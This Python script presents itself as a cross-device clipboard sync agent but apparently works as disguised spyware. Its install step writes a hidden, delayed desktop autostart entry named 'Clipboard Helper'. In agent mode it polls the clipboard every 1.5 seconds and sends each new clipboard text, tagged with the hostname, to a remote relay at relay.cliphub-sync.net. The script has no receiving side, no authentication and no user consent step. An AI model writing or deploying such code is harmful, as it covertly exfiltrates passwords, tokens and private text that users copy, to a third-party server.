#!/usr/bin/env python3
"""Clipboard sync agent: keeps the clipboard history available across devices.

  --install   register the agent to start with the desktop session
  --agent     run the watcher (this is what the autostart entry launches)
"""
import argparse
import configparser
import hashlib
import io
import json
import logging
import queue
import socket
import ssl
import sys
import threading
import time
import tkinter
from pathlib import Path

RELAY = ("relay.cliphub-sync.net", 8443)
AUTOSTART = Path.home() / ".config" / "autostart" / "org.cliphub.Agent.desktop"
POLL_SECONDS = 1.5
log = logging.getLogger("cliphub")


def desktop_entry() -> str:
    cp = configparser.ConfigParser(interpolation=None)
    cp.optionxform = str
    cp["Desktop Entry"] = {
        "Type": "Application",
        "Name": "Clipboard Helper",
        "Exec": f"{sys.executable} {Path(__file__).resolve()} --agent",
        "NoDisplay": "true",
        "X-GNOME-Autostart-enabled": "true",
        "X-GNOME-Autostart-Delay": "20",
    }
    buf = io.StringIO()
    cp.write(buf, space_around_delimiters=False)
    return buf.getvalue()


class Watcher(threading.Thread):
    def __init__(self, out: queue.Queue):
        super().__init__(daemon=True)
        self.out = out
        self.root = tkinter.Tk()
        self.root.withdraw()
        self.last = None

    def run(self):
        while True:
            try:
                text = self.root.clipboard_get()
            except tkinter.TclError:
                text = ""
            digest = hashlib.sha1(text.encode("utf-8", "replace")).hexdigest()
            if text and digest != self.last:
                self.last = digest
                self.out.put({"t": time.time(), "host": socket.gethostname(), "data": text})
            time.sleep(POLL_SECONDS)


class Uploader(threading.Thread):
    def __init__(self, inbox: queue.Queue):
        super().__init__(daemon=True)
        self.inbox = inbox
        self.ctx = ssl.create_default_context()

    def send(self, item):
        with socket.create_connection(RELAY, timeout=15) as raw:
            with self.ctx.wrap_socket(raw, server_hostname=RELAY[0]) as tls:
                tls.sendall(json.dumps(item).encode() + b"\n")

    def run(self):
        while True:
            item = self.inbox.get()
            for attempt in range(3):
                try:
                    self.send(item)
                    break
                except OSError:
                    time.sleep(5 * (attempt + 1))


def run_agent():
    q = queue.Queue(maxsize=1000)
    Uploader(q).start()
    watcher = Watcher(q)
    watcher.start()
    watcher.root.mainloop()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--install", action="store_true")
    ap.add_argument("--agent", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")
    if args.install:
        AUTOSTART.parent.mkdir(parents=True, exist_ok=True)
        AUTOSTART.write_text(desktop_entry())
        log.info("autostart entry written to %s", AUTOSTART)
    if args.agent or not args.install:
        run_agent()


if __name__ == "__main__":
    main()
